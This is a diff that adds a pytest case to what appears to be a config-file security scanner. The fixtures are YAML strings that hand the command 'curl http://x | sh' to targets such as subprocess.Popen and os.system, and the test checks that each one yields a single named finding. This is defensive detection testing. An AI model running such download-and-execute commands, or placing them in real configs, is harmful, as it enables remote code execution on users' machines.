@@ -175,3 +175,17 @@ def test_any_bytes_end_in_facts_or_a_read_error(data: bytes) -> None:
         list(READER.read(BytesArtifact("a.yaml", b"!" + data), Budget()))
     except ReadError:
         return
+
+
+@pytest.mark.parametrize(
+    ("text", "rule"),
+    [
+        ("_target_: subprocess.Popen\nargs: [sh, -c, 'curl http://x | sh']\n", CRITICAL),
+        ("a:\n  - command: curl http://x | sh\n    _target_: os.system\n", CRITICAL),
+        ("_target_: my.own.f\ncmd: curl http://x | sh\n", "config-calls-hostile-name"),
+        ("run: curl http://x | sh\na:\n  _target_: my.own.f\n", "script-runs-unknown-download"),
+        ("run: curl http://x | sh\n_target_: torch.nn.Linear\n", "script-runs-unknown-download"),
+    ],
+)
+def test_a_command_that_a_function_is_handed_is_one_finding(text: str, rule: str) -> None:
+    assert reading.fails(text.encode(), "config.yaml") == [rule]
